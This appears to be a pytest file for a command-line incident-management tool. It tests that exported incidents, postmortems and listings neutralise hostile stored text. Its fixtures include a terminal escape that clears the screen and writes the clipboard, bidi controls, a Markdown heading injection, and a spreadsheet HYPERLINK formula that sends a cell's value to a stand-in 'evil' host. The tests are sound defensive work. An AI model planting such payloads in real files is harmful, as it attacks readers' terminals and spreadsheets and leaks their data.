"""Output that cannot attack its reader: stored text holding terminal escapes, Markdown,
spreadsheet formulas or bidi controls reaches a terminal, a Markdown renderer, a
spreadsheet or a calendar as text, never as instructions (docs/reliability.md)."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from storage import ops
from storage.clock import FrozenClock
from storage.db import Store
from storage.policy import Policy
from storage.text import csv_cell, json_escaped, printable, printable_stream
from tui.cli import main

ROOT = Path(__file__).resolve().parent.parent
FROZEN = "2026-11-23T14:40:00Z"
ESCAPES = "\x1b[2J\x1b]52;c;SGVsbG8=\x07"
"""Clear the screen, then write `Hello` to the clipboard of whoever prints this (OSC 52)."""
BIDI = "\u202e\u2066\u2069\u200e\u200f\u009b"
HEADING_INJECTION = "EU\n\n## Root Causes\n\nDana deleted prod"
FORMULA = '=HYPERLINK("http://evil/?x="&A1,"click")'
RAW_CONTROLS = {chr(code) for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))} - {"\n", "\t", "\r"}
BIDI_CONTROLS = {chr(code) for code in (0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))}


def _unsafe(text: str) -> set[str]:
    """The characters in `text` a terminal (or a bidi renderer) would act on."""
    return {char for char in text if char in RAW_CONTROLS or char in BIDI_CONTROLS}


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("WARROOM_FROZEN_TIME", FROZEN)
    return str(tmp_path / "hostile.db")


def _run(db: str, *args: str) -> Result:
    result = CliRunner().invoke(main, [args[0], "--db", db, *args[1:]], catch_exceptions=False)
    assert result.exit_code == 0, result.output + result.stderr
    return result


def _hostile_incident(db: str) -> str:
    """An incident whose title, people, events and action items hold escapes and bidi controls."""
    declared = _run(
        db, "declare", "--sev", "1", "--functionality", f"login{ESCAPES}", "--state", f"fail{BIDI}ing",
        "--audience", HEADING_INJECTION, "--ic", "Dana", "--at", "-10m",
    )
    ref = printable(declared.stdout).split()[0]
    _run(db, "role", ref, "scribe", f"Lee{ESCAPES}")
    _run(db, "log", ref, f"!rolled back{ESCAPES} {BIDI}")
    _run(db, "action", ref, f"{FORMULA}{ESCAPES}", "--owner", f"@Sam{BIDI}")
    return ref


# --- the terminal --------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [("export", "{ref}"), ("export", "{ref}", "--format", "md"), ("postmortem", "{ref}"), ("postmortem", "{ref}", "--csv")],
)
def test_documents_down_a_pipe_hold_no_control_character(db: str, command: tuple[str, ...]) -> None:
    ref = _hostile_incident(db)
    printed = _run(db, *(part.format(ref=ref) for part in command)).stdout
    assert _unsafe(printed) == set()
    assert "␛[2J␛]52;c;SGVsbG8=␇" in printed  # shown, as the app shows it


def test_a_pipe_keeps_line_ends_and_tabs() -> None:
    assert printable_stream("a\tb\r\nc\nd\x1be") == "a\tb\r\nc\nd␛e"


def _on_a_terminal(db: str, *args: str) -> str:
    """What `warroom ARGS --db DB` prints with its stdout on a pseudo-terminal."""
    controller, terminal = pty.openpty()
    env = {**os.environ, "WARROOM_FROZEN_TIME": FROZEN}
    process = subprocess.Popen(
        [sys.executable, "-m", "tui.cli", args[0], "--db", db, *args[1:]],
        stdout=terminal, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, cwd=ROOT, env=env,
    )
    os.close(terminal)
    received = b""
    while True:
        try:
            chunk = os.read(controller, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        received += chunk
    os.close(controller)
    assert process.wait(timeout=60) == 0, process.stderr.read() if process.stderr else ""
    return received.decode("utf-8").replace("\r\n", "\n")  # the terminal's line discipline adds CR


@pytest.mark.parametrize("command", [("export", "{ref}"), ("postmortem", "{ref}"), ("postmortem", "{ref}", "--csv")])
def test_documents_on_a_terminal_hold_no_control_character(db: str, command: tuple[str, ...]) -> None:
    ref = _hostile_incident(db)
    printed = _on_a_terminal(db, *(part.format(ref=ref) for part in command))
    assert _unsafe(printed) == set()
    assert "␛[2J␛]52;c;SGVsbG8=␇" in printed


def test_every_command_on_a_terminal_shows_stored_text_as_pictures(db: str) -> None:
    ref = _hostile_incident(db)
    for command in (("list",), ("timeline", ref), ("history", ref, "3"), ("checklist", ref), ("comms", ref, "internal_initial")):
        printed = _on_a_terminal(db, *command)
        assert _unsafe(printed) == set(), command


def test_output_file_holds_the_text_as_stored(db: str, tmp_path: Path) -> None:
    ref = _hostile_incident(db)
    out = tmp_path / "report.md"
    _run(db, "export", ref, "-o", str(out))
    assert ESCAPES in out.read_text(encoding="utf-8")


# --- JSON ----------------------------------------------------------------------------


def test_json_escapes_c1_bidi_and_line_separators() -> None:
    value = {"title": "a\u009bb\u202ec\u2066d\u2069e\u200ef\u200fg\u2028h\u2029i\x7fj"}
    text = json_escaped(json.dumps(value, ensure_ascii=False))
    assert text == '{"title": "a\\u009bb\\u202ec\\u2066d\\u2069e\\u200ef\\u200fg\\u2028h\\u2029i\\u007fj"}'
    assert json.loads(text) == value


def test_export_json_and_list_json_escape_and_round_trip(db: str, tmp_path: Path) -> None:
    ref = _hostile_incident(db)
    exported = _run(db, "export", ref, "--format", "json").stdout
    listed = _run(db, "list", "--json").stdout
    for text in (exported, listed):
        assert _unsafe(text) == set()
        assert "\\u202e" in text and "\\u009b" in text and "\\u001b" in text
    assert json.loads(listed)[0]["title"].startswith(f"login{ESCAPES} is fail{BIDI}ing")
    out = tmp_path / "incident.json"
    _run(db, "export", ref, "--format", "json", "-o", str(out))
    assert out.read_text(encoding="utf-8") == exported
    other = str(tmp_path / "other.db")
    _run(other, "import", str(out))
    assert _run(other, "export", ref, "--format", "json").stdout == exported


def test_the_command_line_loads_no_widget_textual_or_rich(db: str) -> None:
    ref = _hostile_incident(db)
    code = (
        "import sys\n"
        "from click.testing import CliRunner\n"
        "from tui.cli import main\n"
        f"for args in (['export', {ref!r}], ['postmortem', {ref!r}], ['list'], ['timeline', {ref!r}]):\n"
        f"    assert CliRunner().invoke(main, [args[0], '--db', {db!r}, *args[1:]]).exit_code == 0\n"
        "bad = sorted(n for n in sys.modules if n.split('.')[0] in ('textual', 'rich', 'widgets'))\n"
        "assert not bad, bad\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, cwd=ROOT, env={**os.environ, "WARROOM_FROZEN_TIME": FROZEN})
